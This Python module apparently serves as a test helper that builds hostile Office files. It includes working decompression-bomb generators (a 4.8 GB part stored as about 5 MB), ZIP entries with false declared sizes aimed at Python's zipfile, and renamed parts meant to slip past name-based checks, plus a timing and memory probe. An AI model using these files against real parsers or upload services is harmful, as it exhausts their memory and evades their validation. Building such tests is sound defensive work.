"""Office files made to hurt: as an attacker builds them, valid ZIPs with honest sizes and checksums.

`office_file(base, replace)` takes a real .xlsx or .docx (bytes) and swaps some of its parts; a part may be a
`Repeated` — a prefix, a chunk repeated many times, a suffix — which is deflated once per chunk kind and its
compressed blocks repeated (a full flush makes each block stand alone), so that a 4.8 GB part is written in
a second as a 5 MB file; or a `Lie` about its size.
"""

import io
import struct
import time
import zipfile
import zlib
from dataclasses import dataclass


@dataclass
class Repeated:
    prefix: bytes
    chunk: bytes
    count: int
    suffix: bytes

    @property
    def size(self):
        return len(self.prefix) + len(self.chunk) * self.count + len(self.suffix)

    def crc(self):
        crc = zlib.crc32(self.prefix)
        for _ in range(self.count):
            crc = zlib.crc32(self.chunk, crc)
        return zlib.crc32(self.suffix, crc)

    def deflated(self):
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        head = compressor.compress(self.prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
        body = compressor.compress(self.chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
        return head + body * self.count + compressor.compress(self.suffix) + compressor.flush()


@dataclass
class Lie:
    """A part whose ZIP entry declares `declared` bytes (and the checksum of those first bytes) while its
    compressed data inflates into all of `content`: Python's zipfile inflates up to a gigabyte in one call
    before it cuts the part to the declared size."""

    content: Repeated
    declared: int


def _member(name, content):
    """(name, crc, compressed bytes, uncompressed size) of one part."""
    if isinstance(content, Lie):
        head = content.content.prefix[: content.declared]
        return name.encode(), zlib.crc32(head), content.content.deflated(), content.declared
    if isinstance(content, Repeated):
        return name.encode(), content.crc(), content.deflated(), content.size
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return name.encode(), zlib.crc32(content), compressor.compress(content) + compressor.flush(), len(content)


def write_zip(parts):
    """A ZIP of `parts` ({name: bytes or Repeated}), ZIP64 where a part passes 4 GB."""
    out, directory = io.BytesIO(), []
    dostime = (12 << 11) | (0 << 5)
    dosdate = ((2024 - 1980) << 9) | (9 << 5) | 1
    for name, content in parts.items():
        raw_name, crc, data, size = _member(name, content)
        big = size >= 0xFFFFFFFF or len(data) >= 0xFFFFFFFF
        extra = struct.pack("<HHQQ", 1, 16, size, len(data)) if big else b""
        offset = out.tell()
        out.write(
            struct.pack(
                "<IHHHHHIIIHH",
                0x04034B50,
                45 if big else 20,
                0,
                8,
                dostime,
                dosdate,
                crc,
                0xFFFFFFFF if big else len(data),
                0xFFFFFFFF if big else size,
                len(raw_name),
                len(extra),
            )
        )
        out.write(raw_name + extra + data)
        directory.append((raw_name, crc, len(data), size, offset, big))
    start = out.tell()
    for raw_name, crc, compressed, size, offset, big in directory:
        extra = struct.pack("<HHQQ", 1, 16, size, compressed) if big else b""
        out.write(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                45 if big else 20,
                45 if big else 20,
                0,
                8,
                dostime,
                dosdate,
                crc,
                0xFFFFFFFF if big else compressed,
                0xFFFFFFFF if big else size,
                len(raw_name),
                len(extra),
                0,
                0,
                0,
                0,
                offset,
            )
        )
        out.write(raw_name + extra)
    size = out.tell() - start
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(directory), len(directory), size, start, 0))
    return out.getvalue()


def office_file(base, replace):
    """The parts of the Office file `base` (bytes), with those in `replace` swapped or added."""
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts.update(replace)
    return write_zip(parts)


def sheet(rows_xml, dimension=None):
    """A worksheet part around `rows_xml` (bytes or a Repeated's pieces)."""
    head = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    if dimension:
        head += b'<dimension ref="' + dimension.encode() + b'"/>'
    return head + b"<sheetData>", rows_xml, b"</sheetData></worksheet>"


def measured(call):
    """(seconds, peak memory of this process in MB, what the call returned or raised)."""
    import resource

    started = time.perf_counter()
    try:
        result = call()
    except Exception as error:  # noqa: BLE001 — the result to look at
        result = error
    seconds = time.perf_counter() - started
    return seconds, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024, result


def renamed(base, old, new, content):
    """`base` with its part `old` moved to `new` (the content types and relationships saying so) and given `content`:
    a reader finds its parts through those, so a check that goes by the usual names would miss it."""
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    del parts[old]
    for name in list(parts):
        if name.endswith(".rels") or name == "[Content_Types].xml":
            parts[name] = (
                parts[name]
                .replace(b"/" + old.encode(), b"/" + new.encode())
                .replace(old.split("/", 1)[1].encode(), new.split("/", 1)[1].encode())
            )
    parts[new] = content
    return write_zip(parts)
